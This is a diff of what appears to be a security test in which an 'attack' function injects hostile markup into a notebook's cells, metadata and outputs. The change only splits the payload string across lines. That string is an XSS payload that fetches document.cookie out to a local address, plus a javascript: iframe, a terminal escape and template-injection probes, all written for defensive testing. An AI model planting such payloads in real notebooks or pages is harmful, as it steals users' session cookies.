@@ -108,7 +108,10 @@ def modules_beside_the_notebook(sheet: Sheet) -> None:
 @attack("tampering")
 def markup_in_the_notebook(sheet: Sheet) -> None:
     """Scripts, frames, terminal codes and templates in Markdown, names, metadata and saved outputs."""
-    evil = "<script>fetch('http://127.0.0.1:9/'+document.cookie)</script><iframe src='javascript:alert(1)'></iframe>\x1b[2J{{ 7*7 }}{% raw %}"
+    evil = (
+        "<script>fetch('http://127.0.0.1:9/'+document.cookie)</script><iframe "
+        "src='javascript:alert(1)'></iframe>\x1b[2J{{ 7*7 }}{% raw %}"
+    )
     cells = sheet.notebook["cells"]
     cells.insert(1, {"cell_type": "markdown", "id": "evil", "metadata": {"name": evil, "tags": [evil]}, "source": evil})
     cells[2]["outputs"] = [
